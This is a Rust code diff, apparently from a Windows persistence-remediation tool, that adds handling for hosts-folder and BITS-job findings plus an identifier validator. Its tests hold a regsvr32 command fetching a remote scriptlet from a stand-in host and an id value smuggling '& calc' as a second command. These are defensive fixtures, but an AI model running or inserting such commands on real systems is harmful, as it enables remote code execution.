@@ -6,6 +6,7 @@ use crate::messages as m;
 use crate::{guard, hosts, stock_values};
 use detect::assessment::{Finding, Kind};
 use intel::Intel;
+use machine::Key;
 use serde_json::Value as Json;
 
 /// Where persistent routes are; the name of a value is the route.
@@ -24,6 +25,15 @@ pub(super) fn setting(finding: &Finding) -> Step {
     let kind = subject::text(subject, &["Kind"]).ok_or_else(|| unknown("Kind"))?;
     if kind == "registry-value" {
         return stored(finding);
+    }
+    // These have no name where they are of the whole machine.
+    match kind.as_str() {
+        "hosts-folder" => {
+            let key = Key::new(machine::PARAMETERS_OF_TCPIP);
+            return reset(&key, machine::HOSTS_FOLDER, subject::text(subject, &["Value"]), true);
+        }
+        "dns-server" => return Err(m::REFUSE_DNS.with([finding.name.as_str().into()])),
+        _ => {}
     }
     let name = subject::text(subject, &["Name"]).ok_or_else(|| unknown("Name"))?;
     let by_hand = || m::REFUSE_BY_HAND.with([finding.name.as_str().into()]);
@@ -54,9 +64,18 @@ pub(super) fn setting(finding: &Finding) -> Step {
         "ipsec-policy" => Err(m::REFUSE_IPSEC.with([finding.name.as_str().into()])),
         "firewall-rule" => Err(m::REFUSE_FIREWALL.with([finding.name.as_str().into()])),
         "wmi-autorecover-mof" => Err(m::REFUSE_MOF.with([finding.name.as_str().into()])),
-        "dns-server" => Err(m::REFUSE_DNS.with([finding.name.as_str().into()])),
+        "bits-job" => match subject::text(subject, &["id"]).filter(|id| is_id(id)) {
+            Some(id) => Err(m::REFUSE_BITS.with([finding.name.as_str().into(), id.into()])),
+            None => Err(by_hand()),
+        },
         _ => Err(by_hand()),
     }
+}
+
+/// Whether it is an identifier in braces, which can be part of a command.
+fn is_id(text: &str) -> bool {
+    let inner = text.strip_prefix('{').and_then(|text| text.strip_suffix('}'));
+    inner.is_some_and(|id| id.len() == 36 && id.bytes().all(|byte| byte.is_ascii_hexdigit() || byte == b'-'))
 }
 
 /// A payload in a value. Only a text was read whole.
@@ -243,6 +262,10 @@ mod tests {
                 r"Remove HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Parameters\PersistentRoutes\198.51.100.7,255.255.255.255,0.0.0.0,1",
             ),
             (
+                setting("hosts-folder", "", r"C:\ProgramData\net", &[]),
+                r"Reset HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Parameters\DataBasePath",
+            ),
+            (
                 setting("defender-exclusion", "C:\\", "paths", &[("given_by", "policy")]),
                 r"Remove HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Exclusions\Paths\C:\",
             ),
@@ -265,6 +288,8 @@ mod tests {
         }
     }
 
+    const BITS_COMMAND: &str = "regsvr32.exe /s /u /i:http://a.example/x.sct scrobj.dll";
+
     #[test]
     fn what_a_plan_cannot_do_is_left_to_a_person() {
         let com = r"HKCU\Software\Classes\CLSID\{BCDE0395-E52F-467C-8E3D-C4579291692E}\InprocServer32";
@@ -272,6 +297,11 @@ mod tests {
             (setting("defender-exclusion", "C:\\", "paths", &[]), "refuse-exclusion"),
             (setting("ipsec-policy", "netbc", "ipsecPolicy", &[]), "refuse-ipsec"),
             (setting("wmi-autorecover-mof", r"C:\Users\Public\x.mof", "", &[]), "refuse-mof"),
+            (
+                setting("bits-job", "x", BITS_COMMAND, &[("id", "{5e8f4b9a-0f2d-4a7c-9c62-000000000001}")]),
+                "refuse-bits",
+            ),
+            (setting("bits-job", "x", BITS_COMMAND, &[("id", "{1}\" & calc")]), "refuse-by-hand"),
             (
                 entry(
                     AutostartKind::Other,
